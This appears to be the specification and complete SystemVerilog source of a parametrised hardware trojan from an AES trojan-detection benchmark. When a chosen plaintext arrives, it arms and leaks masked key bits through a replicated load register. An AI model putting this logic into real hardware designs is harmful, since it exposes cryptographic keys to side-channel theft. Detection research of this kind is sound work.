tsc_param: RTL
==============

Name: tsc_param

Overview:
- Parametrised trojan side-channel leakage generator for the AES trojan-insertion benchmark.
- A match on the monitored datapath word arms the block. After a programmable delay it drives a wide, replicated load register with a sliding window of key bits XOR-masked by an internal LFSR.
- The window walks the whole key. Detection experiments sweep leak width, replication, dwell time and arming delay without RTL edits.
- Sits beside the AES core: taps the plaintext/state bus and key register, and drives the load net only.

Parameters:
- KEY_W, 128, key width in bits; must be a multiple of LEAK_BITS.
- DATA_W, 128, width of the monitored data word.
- LEAK_BITS, 8, key bits leaked per window.
- REPL, 8, load flops driven per leaked bit.
- LFSR_W, 20, mask LFSR width; must be >= LEAK_BITS.
- TAPS, 20'h90000, LFSR feedback tap mask (x^20+x^17+1).
- SEED, 20'h00001, LFSR reset/idle value; must be non-zero.
- TRIG_VALUE, 128'h00112233445566778899AABBCCDDEEFF, data word that arms the block.
- ARM_DELAY, 4, cycles spent in ARM before LEAK; 0 means direct IDLE->LEAK.
- DWELL, 16, LEAK cycles per key window; must be >= 1.

Ports:
- clk, input, 1, single clock, rising edge.
- rst, input, 1, asynchronous, active-low reset.
- trig_en, input, 1, trigger qualifier; data is compared only while high.
- clr, input, 1, synchronous disarm back to IDLE.
- data, input, DATA_W, monitored datapath word.
- key, input, KEY_W, key register contents.
- load, output, LEAK_BITS*REPL, registered leakage load.
- active, output, 1, high while state == LEAK.
- key_ptr, output, $clog2(KEY_W), LSB index of the current key window.

Behaviour:
- Reset (rst low, async): state = IDLE, load = 0, key_ptr = 0, dwell counter = 0, arm counter = 0, lfsr = SEED, active = 0.
- FSM states: IDLE, ARM, LEAK. clr has priority over all transitions and forces IDLE, load = 0, key_ptr = 0, lfsr = SEED on the next edge.
- IDLE:
  - trig_en && data == TRIG_VALUE goes to ARM, with the arm counter loaded to ARM_DELAY-1. If ARM_DELAY == 0 it goes straight to LEAK.
  - Otherwise stays in IDLE.
  - lfsr held at SEED; load <= 0.
- ARM:
  - Arm counter decrements each cycle; at 0 the next state is LEAK.
  - Triggers seen in ARM are ignored; no re-arm or extension.
  - lfsr advances each cycle; load <= 0.
- LEAK:
  - Each edge: load[i*REPL+r] <= key[key_ptr+i] ^ lfsr[i], for i in 0..LEAK_BITS-1 and r in 0..REPL-1.
  - lfsr advances on the same edge, so the pre-advance value is used.
  - Dwell counter counts 0..DWELL-1. On reaching DWELL-1 it wraps to 0 and key_ptr <= (key_ptr + LEAK_BITS) mod KEY_W.
  - Wrap from KEY_W-LEAK_BITS returns to 0.
  - Stays in LEAK until clr or reset; triggers are ignored.
- LFSR update: Fibonacci, lfsr <= {lfsr[LFSR_W-2:0], ^(lfsr & TAPS)}. It never reaches all-zero.
- Latency:
  - Trigger sampled at edge t with ARM_DELAY = N gives state LEAK after edge t+N+1 (after edge t+1 when N = 0).
  - The first non-zero-capable load appears one edge after LEAK is entered.
  - active is a decode of the state register, with no extra latency.
- Simultaneous events: clr together with a trigger match means clr wins and the state stays IDLE. A key change mid-window is reflected in load on the next edge.
- Reset mid-LEAK: outputs return immediately (asynchronously) to their reset values.

Test Plan:
- ARM_DELAY = 0, key[7:0] = 8'hA5, trigger pulse with data = TRIG_VALUE: LEAK is entered at edge t+1. At edge t+2, load = 64'hFF00FF0000FF0000 (A5 ^ SEED[7:0] = A4, replicated 8x) and active = 1.
- Defaults, trigger at edge t: active rises after edge t+5; load stays 0 through ARM. A data mismatch (TRIG_VALUE ^ 1) or trig_en = 0 keeps the block in IDLE with load = 0 indefinitely.
- DWELL = 16 in LEAK: key_ptr steps 0, 8, 16 ... 120, then wraps to 0 after 256 LEAK cycles. Each load byte group equals the reference-model key window XOR lfsr[7:0].
- clr asserted in ARM and in LEAK, and clr in the same cycle as a trigger: next edge gives IDLE, load = 0, key_ptr = 0, lfsr = SEED. The trigger is not taken.
- rst pulled low mid-LEAK between clock edges: load = 0, active = 0 and key_ptr = 0 immediately. Recovery occurs only via a fresh trigger.
- Parameter sweep LEAK_BITS = 4, REPL = 2, KEY_W = 32, DWELL = 1: load width 8, key_ptr steps by 4 every cycle and wraps at 28 -> 0. Scoreboard matches the LFSR model.

Source files
------------

// File: rtl/tsc_param.sv
`default_nettype none
// ============================================================================
// tsc_param : trigger-armed key-window leakage generator driving a load net
// Rev 1.0
// ============================================================================
module tsc_param #(
    parameter int                 KEY_W      = 128,
    parameter int                 DATA_W     = 128,
    parameter int                 LEAK_BITS  = 8,
    parameter int                 REPL       = 8,
    parameter int                 LFSR_W     = 20,
    parameter logic [LFSR_W-1:0]  TAPS       = 20'h90000,
    parameter logic [LFSR_W-1:0]  SEED       = 20'h00001,
    parameter logic [DATA_W-1:0]  TRIG_VALUE = 128'h00112233445566778899AABBCCDDEEFF,
    parameter int                 ARM_DELAY  = 4,
    parameter int                 DWELL      = 16
) (
    input  logic                          clk,
    input  logic                          rst,
    input  logic                          trig_en,
    input  logic                          clr,
    input  logic [DATA_W-1:0]             data,
    input  logic [KEY_W-1:0]              key,
    output logic [LEAK_BITS*REPL-1:0]     load,
    output logic                          active,
    output logic [$clog2(KEY_W)-1:0]      key_ptr
);

    localparam int c_PTR_W    = $clog2(KEY_W);
    localparam int c_LOAD_W   = LEAK_BITS * REPL;
    localparam int c_DW_W     = (DWELL > 1) ? $clog2(DWELL) : 1;
    localparam int c_AW_W     = (ARM_DELAY > 1) ? $clog2(ARM_DELAY) : 1;
    localparam int c_ARM_LOAD = (ARM_DELAY > 0) ? ARM_DELAY - 1 : 0;
    localparam int c_PTR_LAST = KEY_W - LEAK_BITS;

    typedef enum logic [1:0] {
        S_IDLE = 2'd0,
        S_ARM  = 2'd1,
        S_LEAK = 2'd2
    } state_t;

    state_t                 r_state;
    logic                   r_match;
    logic [c_AW_W-1:0]      r_arm_cnt;
    logic [c_DW_W-1:0]      r_dwell;
    logic [c_PTR_W-1:0]     r_key_ptr;
    logic [LFSR_W-1:0]      r_lfsr;
    logic [c_LOAD_W-1:0]    r_load;

    logic                   w_match;
    logic [LFSR_W-1:0]      w_lfsr_next;
    logic [LEAK_BITS-1:0]   w_window;
    logic [LEAK_BITS-1:0]   w_leak;
    logic [c_LOAD_W-1:0]    w_load;
    logic                   w_dwell_last;
    logic [c_PTR_W-1:0]     w_ptr_next;

    // The wide data compare is registered so it stays off the FSM next-state path.
    assign w_match      = trig_en && (data == TRIG_VALUE);
    assign w_lfsr_next  = {r_lfsr[LFSR_W-2:0], ^(r_lfsr & TAPS)};
    assign w_window     = key[r_key_ptr +: LEAK_BITS];
    assign w_leak       = w_window ^ r_lfsr[LEAK_BITS-1:0];
    assign w_dwell_last = (r_dwell == c_DW_W'(DWELL - 1));
    assign w_ptr_next   = (r_key_ptr == c_PTR_W'(c_PTR_LAST)) ? '0
                                                              : r_key_ptr + c_PTR_W'(LEAK_BITS);

    generate
        for (genvar gi = 0; gi < LEAK_BITS; gi++) begin : g_bit
            for (genvar gr = 0; gr < REPL; gr++) begin : g_rep
                assign w_load[gi*REPL + gr] = w_leak[gi];
            end
        end
    endgenerate

    always_ff @(posedge clk or negedge rst) begin
        if (!rst) begin
            r_state   <= S_IDLE;
            r_match   <= 1'b0;
            r_arm_cnt <= '0;
            r_dwell   <= '0;
            r_key_ptr <= '0;
            r_lfsr    <= SEED;
            r_load    <= '0;
        end else if (clr) begin
            r_state   <= S_IDLE;
            r_match   <= 1'b0;
            r_arm_cnt <= '0;
            r_dwell   <= '0;
            r_key_ptr <= '0;
            r_lfsr    <= SEED;
            r_load    <= '0;
        end else begin
            r_match <= w_match;
            case (r_state)
                S_IDLE: begin
                    r_lfsr <= SEED;
                    r_load <= '0;
                    if (r_match) begin
                        if (ARM_DELAY == 0) begin
                            r_state <= S_LEAK;
                        end else begin
                            r_state   <= S_ARM;
                            r_arm_cnt <= c_AW_W'(c_ARM_LOAD);
                        end
                    end
                end
                S_ARM: begin
                    r_lfsr <= w_lfsr_next;
                    r_load <= '0;
                    if (r_arm_cnt == '0) begin
                        r_state <= S_LEAK;
                    end else begin
                        r_arm_cnt <= r_arm_cnt - c_AW_W'(1);
                    end
                end
                S_LEAK: begin
                    r_load <= w_load;
                    r_lfsr <= w_lfsr_next;
                    if (w_dwell_last) begin
                        r_dwell   <= '0;
                        r_key_ptr <= w_ptr_next;
                    end else begin
                        r_dwell <= r_dwell + c_DW_W'(1);
                    end
                end
                default: r_state <= S_IDLE;
            endcase
        end
    end

    assign load    = r_load;
    assign active  = (r_state == S_LEAK);
    assign key_ptr = r_key_ptr;

endmodule
`default_nettype wire
